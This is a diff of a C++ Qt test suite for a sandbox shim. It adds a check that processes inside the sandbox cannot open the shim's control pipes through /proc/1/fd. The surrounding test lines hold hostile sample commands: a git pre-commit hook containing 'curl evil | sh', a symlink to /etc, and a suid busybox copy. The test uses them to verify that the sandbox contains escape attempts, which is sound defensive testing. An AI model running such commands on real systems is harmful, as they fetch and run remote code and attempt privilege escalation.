@@ -209,6 +209,12 @@ private Q_SLOTS:
                                    "echo 'curl evil | sh' > .git/hooks/pre-commit && ln -s /etc escape && "
                                    "cp /bin/busybox suid && { chmod 4755 suid 2>/dev/null; true; } && mkdir -p made/inner && echo x > made/inner/y")});
         QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
+        // The control stream is pipes the shim holds as PID 1: nothing in the sandbox may open them
+        // through /proc to read the backend's requests or forge frames.
+        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"),
+                    QStringLiteral("cat /proc/1/comm; n=0; for f in /proc/1/fd/*; do (echo forged > $f) 2>/dev/null && n=$((n+1)); "
+                                   "(head -c 1 < $f) 2>/dev/null && n=$((n+1)); done; echo opened=$n")});
+        QVERIFY2(o.out == "shim\nopened=0\n", QByteArray(o.out + o.err).constData());
         // Not here yet: the sandbox works on its copy.
         QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/out.txt")));
 
